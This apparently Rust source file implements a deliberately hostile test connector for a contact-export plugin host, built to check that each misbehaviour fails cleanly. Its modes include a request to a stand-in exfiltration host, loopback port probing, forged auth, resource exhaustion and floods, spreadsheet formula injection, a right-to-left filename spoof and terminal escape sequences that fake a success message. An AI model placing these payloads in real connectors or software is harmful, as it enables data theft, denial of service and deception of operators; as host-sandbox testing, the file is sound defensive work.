//! A connector that misbehaves on purpose, written as an attacker would against the contract.
//!
//! - `describe()` reads its answer from [`DESCRIBE`], a block of this component's data that the
//!   tests rewrite (same length) to make variants: another default base URL, other hosts, text
//!   with escape sequences, a sleep or a busy loop. Unpatched, it describes itself like a
//!   Campaign Monitor connector (same host, same auth).
//! - `validate` behaves; `export-batch` does what the export's `mode` setting says.
//!
//! Each misbehaviour must fail only its own run, with a clear error.

use std::io::Read;

use cdp_connector_sdk::http::{self, Method};
use cdp_connector_sdk::*;
use serde::Deserialize;
use wasi::http::outgoing_handler::{self, FutureIncomingResponse};
use wasi::http::types::{Fields, OutgoingBody, OutgoingRequest, Scheme};

struct Hostile;

/// Where the tests find the block to rewrite.
const MARKER: &[u8] = b"@@HOSTILE-DESCRIBE@@";
const BLOCK_LEN: usize = 4096;

/// `MARKER`, then a JSON object of [`Overrides`] padded with spaces (`{}` unpatched).
static DESCRIBE: [u8; BLOCK_LEN] = block();

const fn block() -> [u8; BLOCK_LEN] {
    let mut out = [b' '; BLOCK_LEN];
    let mut i = 0;
    while i < MARKER.len() {
        out[i] = MARKER[i];
        i += 1;
    }
    out[MARKER.len()] = b'{';
    out[MARKER.len() + 1] = b'}';
    out
}

/// What a patched block may change in the description.
#[derive(Deserialize, Default)]
#[serde(default)]
struct Overrides {
    id: Option<String>,
    display_name: Option<String>,
    version: Option<String>,
    default_base_url: Option<String>,
    hosts: Option<Vec<String>>,
    label: Option<String>,
    max_batch_size: Option<u32>,
    max_concurrent_requests: Option<u32>,
    /// The credential in this header, after this prefix (contract 0.3).
    auth_header: Option<(String, String)>,
    /// Rate windows: requests, seconds, and optionally a method and a path prefix.
    rate_windows: Option<Vec<WindowOverride>>,
    /// Leave actions: id, reversible, batch size.
    leave_actions: Option<Vec<(String, bool, u32)>>,
    /// Waits this long (on a host timer) before answering.
    sleep_ms: u64,
    /// Never answers: a busy loop.
    spin: bool,
}

/// A rate window: requests, seconds, and optionally a method and a path prefix.
type WindowOverride = (u32, u32, Option<String>, Option<String>);

fn overrides() -> Overrides {
    // Read through black_box so the compiler cannot assume the block's contents.
    let block: &[u8; BLOCK_LEN] = std::hint::black_box(&DESCRIBE);
    serde_json::from_slice(block[MARKER.len()..].trim_ascii()).unwrap_or_default()
}

impl raw::Guest for Hostile {
    fn describe() -> ConnectorInfo {
        let o = overrides();
        if o.sleep_ms > 0 {
            wasi::clocks::monotonic_clock::subscribe_duration(o.sleep_ms * 1_000_000).block();
        }
        if o.spin {
            let mut x: u64 = 1;
            loop {
                x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
            }
        }
        ConnectorInfo {
            id: o.id.unwrap_or_else(|| "hostile".into()),
            display_name: o
                .display_name
                .unwrap_or_else(|| "Hostile test connector".into()),
            version: o.version.unwrap_or_else(|| "0.1.0".into()),
            default_base_url: o
                .default_base_url
                .unwrap_or_else(|| "https://api.createsend.com/api/v3.3".into()),
            hosts: o.hosts.unwrap_or_else(|| vec!["api.createsend.com".into()]),
            auth: match o.auth_header {
                Some((name, prefix)) => AuthScheme::header(&name, &prefix),
                None => AuthScheme::BasicSecretAsUser("x".into()),
            },
            config_fields: vec![
                ConfigField {
                    key: "list-id".into(),
                    label: o.label.unwrap_or_else(|| "List ID".into()),
                    help: "A Campaign Monitor list.".into(),
                    required: true,
                },
                ConfigField {
                    key: "mode".into(),
                    label: "Mode".into(),
                    help: "How to misbehave.".into(),
                    required: true,
                },
            ],
            contact_fields: vec![ContactField::new("email", "Email", true, 0)],
            custom_fields: false,
            custom_field_max_length: 0,
            leave_actions: o
                .leave_actions
                .unwrap_or_default()
                .into_iter()
                .map(|(id, reversible, batch_size)| LeaveAction {
                    batch_size,
                    ..LeaveAction::new(&id, "Leave", "A test action.", reversible)
                })
                .collect(),
            max_batch_size: o.max_batch_size.unwrap_or(100),
            max_concurrent_requests: o.max_concurrent_requests.unwrap_or(0),
            rate_windows: o
                .rate_windows
                .unwrap_or_default()
                .into_iter()
                .map(|(requests, seconds, method, path)| RateWindow {
                    requests,
                    seconds,
                    applies_to: (method.is_some() || path.is_some()).then(|| RequestClass {
                        method,
                        path_prefix: path.unwrap_or_default(),
                    }),
                })
                .collect(),
            erasure: None,
        }
    }

    fn validate(config: ExportConfig) -> Result<(), ConnectorError> {
        let url = match config.get("list-id") {
            Some(list) => format!("{}/lists/{list}.json", config.base_url),
            None => format!("{}/clients.json", config.base_url),
        };
        let response = http::get(&url)?;
        if response.is_success() {
            Ok(())
        } else {
            Err(ConnectorError::new(
                ErrorKind::Vendor,
                response.body_excerpt(),
            ))
        }
    }

    fn export_batch(
        config: ExportConfig,
        contacts: Vec<Contact>,
    ) -> Result<BatchReport, ConnectorError> {
        let list = config.require("list-id")?;
        let base = &config.base_url;
        let n = contacts.len() as u32;
        let all_created = BatchReport {
            created: n,
            updated: 0,
            issues: vec![],
        };
        match config.require("mode")? {
            // Well behaved: every contact created, nothing sent anywhere.
            "accept" => Ok(all_created),
            "endless-loop" => {
                let mut x: u64 = 1;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "stack-overflow" => Ok(BatchReport {
                created: recurse(std::hint::black_box(1)) as u32,
                updated: 0,
                issues: vec![],
            }),
            "panic" => panic!("hostile connector gave up on purpose"),
            "forbidden-host" => {
                http::get("https://exfiltrate.example.net/steal?data=contacts")?;
                Ok(all_created)
            }
            "other-loopback-port" => {
                // The administrator's simulator is on one port; try the neighbouring ones.
                let (authority, _) = split(base);
                let (host, port) = authority.rsplit_once(':').unwrap_or((authority, "80"));
                let port: u16 = port.parse().unwrap_or(80);
                for other in [port.wrapping_add(1), port.wrapping_sub(1), 80, 22] {
                    http::get(&format!("http://{host}:{other}/steal"))?;
                }
                Ok(all_created)
            }
            "forged-auth" => {
                let url = format!("{base}/lists/{list}.json");
                let response = http::send_with_headers(
                    Method::Get,
                    &url,
                    &[("authorization", "Basic Zm9yZ2VkOng=")],
                    None,
                )?;
                match response.status {
                    200 => Ok(all_created),
                    s => Err(ConnectorError::new(ErrorKind::Vendor, format!("HTTP {s}"))),
                }
            }
            "flood" => {
                for _ in 0..30 {
                    let response = http::get(&format!("{base}/lists/{list}.json"))?;
                    if !response.is_success() {
                        return Err(ConnectorError::new(
                            ErrorKind::Vendor,
                            format!("HTTP {}", response.status),
                        ));
                    }
                }
                Ok(all_created)
            }
            "huge-body" => {
                // 512 MiB streamed from a 4 KiB buffer: the host must refuse it as it comes.
                let outcome = send_streamed(&format!("{base}/upload"), 512 << 20);
                Err(ConnectorError::new(
                    ErrorKind::Transport,
                    format!("the huge upload ended: {outcome}"),
                ))
            }
            "stalled-body" => {
                let outcome = send_stalled(&format!("{base}/upload"));
                Err(ConnectorError::new(
                    ErrorKind::Transport,
                    format!("the stalled upload ended: {outcome}"),
                ))
            }
            "answer-flood" => concurrent_gets(&format!("{base}/big"), 48).map(|_| all_created),
            "connection-flood" => {
                concurrent_gets(&format!("{base}/lists/{list}.json"), 200).map(|_| all_created)
            }
            "resource-flood" => {
                let mut hoard = Vec::new();
                loop {
                    let fields = Fields::new();
                    let _ = fields.append("x-pad", &[b'a'; 8000]);
                    hoard.push(fields);
                }
            }
            "forged-report" => Ok(BatchReport {
                created: 0,
                updated: 0,
                issues: (0..n)
                    .map(|index| ContactIssue {
                        index,
                        kind: IssueKind::Rejected,
                        code: if index % 2 == 0 {
                            "=HYPERLINK(\"http://evil.example/\",\"ok\")".into()
                        } else {
                            "+1+1".into()
                        },
                        message: if index % 2 == 0 {
                            FORGED_LINES.into()
                        } else {
                            "@SUM(A1:A9)\u{202e}gnp.exe".into()
                        },
                    })
                    .collect(),
            }),
            "forged-error" => Err(ConnectorError {
                kind: ErrorKind::Vendor,
                message: format!("{FORGED_LINES}{}", "A".repeat(5_000)),
                vendor_code: Some("\x1b]0;owned\x07".into()),
                retryable: false,
            }),
            "huge-reason" => Ok(BatchReport {
                created: n - 1,
                updated: 0,
                issues: vec![ContactIssue {
                    index: 0,
                    kind: IssueKind::Rejected,
                    code: "x".into(),
                    message: "x".repeat(3 << 20),
                }],
            }),
            "overclaim" => Ok(BatchReport {
                created: n + 5,
                updated: 0,
                issues: vec![],
            }),
            // Stays under the per-call memory cap (the host's budget is what it tests): takes
            // 100 MiB, touches every page, then answers.
            "grow" => {
                let hoard = vec![1u8; 100 << 20];
                std::hint::black_box(&hoard);
                wasi::clocks::monotonic_clock::subscribe_duration(200_000_000).block();
                Ok(all_created)
            }
            // Every contact rejected with the same 1 MiB message: one buffer in the connector's
            // memory, named by every issue (a report costing the connector 1 MiB that the host
            // would copy once per contact).
            "aliased-report" => {
                let shared: &'static mut [u8] = Box::leak(vec![b'x'; 1 << 20].into_boxed_slice());
                let (ptr, len) = (shared.as_mut_ptr(), shared.len());
                Ok(BatchReport {
                    created: 0,
                    updated: 0,
                    issues: (0..n)
                        .map(|index| ContactIssue {
                            index,
                            kind: IssueKind::Rejected,
                            code: "x".into(),
                            // SAFETY: deliberately not: every message claims the same bytes,
                            // which is the attack. The host must refuse the report before it
                            // copies it, so the guest's clean-up never runs.
                            message: unsafe { String::from_raw_parts(ptr, len, len) },
                        })
                        .collect(),
                })
            }
            "oversized" => Ok(BatchReport {
                created: n - 1,
                updated: 0,
                issues: vec![ContactIssue {
                    index: 0,
                    kind: IssueKind::Rejected,
                    code: "x".into(),
                    message: "x".repeat(24 << 20),
                }],
            }),
            other => Err(ConnectorError::invalid_config(format!(
                "unknown mode `{other}`"
            ))),
        }
    }

    fn apply_leave_action(
        _config: ExportConfig,
        action: String,
        _contacts: Vec<Contact>,
    ) -> Result<BatchReport, ConnectorError> {
        Err(ConnectorError::invalid_config(format!(
            "the hostile connector declares no leave action `{action}`"
        )))
    }

    fn erase_contacts(
        _config: ExportConfig,
        _contacts: Vec<Contact>,
    ) -> Result<BatchReport, ConnectorError> {
        Err(ConnectorError::invalid_config(
            "the hostile connector cannot erase",
        ))
    }
}

/// Text meant to clear the operator's screen and forge a successful run's summary.
const FORGED_LINES: &str = "\x1b[2J\x1b[H\x1b[1;32mExport to campaign-monitor (newsletter): succeeded\r\n  profiles in segment          1\n";

/// Recursion the optimiser cannot remove.
fn recurse(depth: u64) -> u64 {
    let mut frame = [depth; 64];
    std::hint::black_box(&mut frame);
    if std::hint::black_box(depth) == 0 {
        return 0;
    }
    recurse(depth + 1) + frame[7]
}

/// `http://authority/path` as (authority, path).
fn split(url: &str) -> (&str, &str) {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    }
}

fn request(method: &Method, url: &str) -> OutgoingRequest {
    let (authority, path) = split(url);
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(method);
    let _ = request.set_scheme(Some(if url.starts_with("https") {
        &Scheme::Https
    } else {
        &Scheme::Http
    }));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(path));
    request
}

/// Waits for an answer; its status and body length, or what went wrong.
fn answer(pending: &FutureIncomingResponse) -> Result<(u16, usize), String> {
    let response = loop {
        match pending.get() {
            Some(result) => break result,
            None => pending.subscribe().block(),
        }
    };
    let response = match response {
        Ok(Ok(response)) => response,
        Ok(Err(code)) => return Err(format!("{code:?}")),
        Err(()) => return Err("the answer was already taken".into()),
    };
    let status = response.status();
    let body = response.consume().map_err(|_| "no body")?;
    let mut stream = body.stream().map_err(|_| "no body stream")?;
    let (mut total, mut buffer) = (0, vec![0u8; 64 << 10]);
    loop {
        match Read::read(&mut stream, &mut buffer) {
            Ok(0) => break,
            Ok(n) => total += n,
            Err(e) => return Err(format!("reading the answer: {e}")),
        }
    }
    Ok((status, total))
}

/// POSTs `bytes` of zeros, streamed in 4 KiB writes; says how it ended.
fn send_streamed(url: &str, bytes: usize) -> String {
    let request = request(&Method::Post, url);
    let body = request.body().expect("a body");
    let pending = match outgoing_handler::handle(request, None) {
        Ok(p) => p,
        Err(code) => return format!("refused at once: {code:?}"),
    };
    let stream = body.write().expect("a body stream");
    let chunk = [0u8; 4096];
    let mut sent = 0;
    while sent < bytes {
        if stream.blocking_write_and_flush(&chunk).is_err() {
            break;
        }
        sent += chunk.len();
    }
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    format!("{sent} bytes written, answer: {:?}", answer(&pending))
}

/// POSTs a body that starts and never finishes; says how it ended.
fn send_stalled(url: &str) -> String {
    let request = request(&Method::Post, url);
    let body = request.body().expect("a body");
    let pending = match outgoing_handler::handle(request, None) {
        Ok(p) => p,
        Err(code) => return format!("refused at once: {code:?}"),
    };
    let stream = body.write().expect("a body stream");
    let _ = stream.blocking_write_and_flush(b"{\"subscribers\": [");
    // The body stays open (neither finished nor dropped) while the answer is awaited.
    let outcome = answer(&pending);
    drop(stream);
    drop(body);
    format!("answer: {outcome:?}")
}

/// Sends `count` GETs at once and reads every answer; fails naming how many went wrong.
fn concurrent_gets(url: &str, count: usize) -> Result<(), ConnectorError> {
    let mut pending = Vec::with_capacity(count);
    for _ in 0..count {
        match outgoing_handler::handle(request(&Method::Get, url), None) {
            Ok(p) => pending.push(p),
            Err(code) => {
                return Err(ConnectorError::new(
                    ErrorKind::Transport,
                    format!("refused at once: {code:?}"),
                ));
            }
        }
    }
    let failures: Vec<String> = pending.iter().filter_map(|p| answer(p).err()).collect();
    match failures.first() {
        None => Ok(()),
        Some(first) => Err(ConnectorError::new(
            ErrorKind::Transport,
            format!(
                "{} of {count} requests failed, the first with {first}",
                failures.len()
            ),
        )),
    }
}

raw::export!(Hostile);
